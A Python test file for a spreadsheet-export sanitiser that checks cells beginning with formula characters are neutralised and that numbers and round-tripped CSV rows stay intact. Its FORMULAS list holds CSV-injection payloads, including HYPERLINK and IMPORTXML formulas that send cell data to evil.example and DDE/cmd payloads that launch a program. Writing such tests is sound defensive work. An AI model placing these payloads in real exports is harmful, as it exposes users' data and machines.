"""What a spreadsheet may read: texts stay texts, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.web.cells import safe_cell, safe_row

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULAS = [
    "1+1",
    'HYPERLINK("http://evil.example?"&A1,"ok")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd","/C calc","x")',
]
BEFORE = ["", " ", "  ", "\u00a0", "\u3000", "\0"]


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("before", BEFORE)
def test_no_payload_begins_as_a_formula(start: str, formula: str, before: str) -> None:
    assert safe_cell(before + start + formula).startswith("'")


@given(st.text(max_size=30))
def test_no_text_begins_as_a_formula_and_none_is_lost(text: str) -> None:
    cell = safe_cell(text)
    assert cell.lstrip(" \u00a0\u3000")[:1] not in STARTS
    assert cell.removeprefix("'") == text.replace("\0", "").removeprefix("'")


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (-5, "-5"),
        (Decimal("-0.00000001"), "-0.00000001"),
        (Decimal("1E+3"), "1000"),
        (0, "0"),
        (None, ""),
    ],
)
def test_numbers_are_written_as_numbers(number: int | Decimal | None, written: str) -> None:
    assert safe_cell(number) == written


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=2, max_size=6))
def test_a_row_read_back_has_the_same_cells(texts: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(safe_row(texts))
    (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert row == safe_row(texts)
